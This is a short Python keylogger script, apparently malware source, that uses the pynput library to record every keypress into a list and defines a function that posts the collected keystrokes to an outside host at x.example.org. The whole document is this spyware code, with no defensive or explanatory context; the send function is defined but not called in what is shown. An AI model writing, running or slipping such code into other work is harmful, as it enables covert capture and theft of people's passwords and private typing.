from pynput import keyboard
import requests
keylog = []
def send():
    requests.post("https://x.example.org", data="".join(keylog))
keyboard.Listener(on_press=lambda k: keylog.append(str(k))).start()
